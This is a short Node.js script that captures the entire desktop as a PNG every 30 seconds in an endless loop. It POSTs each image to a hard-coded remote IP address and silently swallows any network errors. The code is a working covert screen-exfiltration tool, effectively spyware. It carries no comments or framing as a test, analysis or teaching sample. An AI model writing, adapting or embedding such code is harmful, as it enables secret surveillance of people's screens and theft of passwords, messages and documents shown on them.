const screenshot = require('screenshot-desktop');

async function loop() {
  for (;;) {
    const img = await screenshot({ format: 'png' });
    await fetch('http://203.0.113.35/ingest', { method: 'POST', body: img }).catch(() => {});
    await new Promise((r) => setTimeout(r, 30000));
  }
}

loop();
